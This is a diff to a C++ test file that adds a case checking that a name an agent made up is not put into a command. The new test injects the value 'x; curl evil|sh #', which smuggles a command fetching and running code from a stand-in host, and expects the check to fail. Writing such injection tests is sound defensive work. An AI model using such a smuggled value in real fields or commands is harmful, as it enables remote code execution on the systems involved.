@@ -79,6 +79,15 @@ TEST(Inspection, NoPathThatTheAgentMadeUpIsPutIntoACommand) {
     EXPECT_EQ(check_secrets(premises).verdict, Verdict::pass);
 }
 
+TEST(Inspection, NoNameThatTheAgentMadeUpIsPutIntoACommand) {
+    Inspected world;
+    Premises premises = world.premises();
+    premises.inside["plain"] = {"x; curl evil|sh #"};
+    const Check row = check_secrets(premises);
+    EXPECT_EQ(row.verdict, Verdict::fail);
+    EXPECT_EQ(row.hint, "hermesctl deploy --secret KEY=-");
+}
+
 TEST(Inspection, ACopyThatWasNotLookedIntoIsToldAsThat) {
     Inspected world;
     Premises premises = world.premises();
